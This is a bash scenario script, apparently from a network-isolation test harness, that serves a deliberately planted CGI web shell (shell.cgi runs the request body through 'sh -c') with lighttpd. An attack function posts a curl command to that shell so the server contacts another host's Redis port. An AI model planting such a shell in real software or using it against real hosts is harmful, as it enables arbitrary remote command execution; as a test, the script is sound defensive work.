# SPDX-License-Identifier: Apache-2.0
# shellcheck shell=bash disable=SC2154
# lighttpd reads all requests in one thread and gives scripts pipes. C has been answered and keeps its
# connection, which may be asked for more at any time: which of the two it was nobody can prove.
set -euo pipefail

mkdir -p /srv/web
cat >/srv/web/shell.cgi <<'END'
#!/bin/sh
printf 'Content-Type: text/plain\n\n'
sh -c "$(head -c "$CONTENT_LENGTH")" 2>&1
END
chmod 755 /srv/web/shell.cgi
cat >/tmp/lighttpd.conf <<'END'
server.modules = ("mod_cgi")
server.document-root = "/srv/web"
server.port = 8000
server.username = "www-data"
cgi.assign = (".cgi" => "")
server.max-keep-alive-idle = 60
END

serve B 6379
background web on H lighttpd -D -f /tmp/lighttpd.conf
wait_port H 8000

keep_connected() {
	exec 3<>"/dev/tcp/$IP_H/8000"
	printf 'GET / HTTP/1.1\r\nHost: h\r\n\r\n' >&3
	read -r _ <&3
	touch /tmp/answered
	until [ -e /tmp/over ]; do sleep 0.2; done
}
export -f keep_connected

attack() {
	background idle on C keep_connected
	until [[ -e /tmp/answered ]]; do sleep 0.1; done
	[[ $(on A curl -sS --data-binary "curl -sS -m 10 $IP_B:6379" "http://$IP_H:8000/shell.cgi") == ok ]]
	touch /tmp/over
}
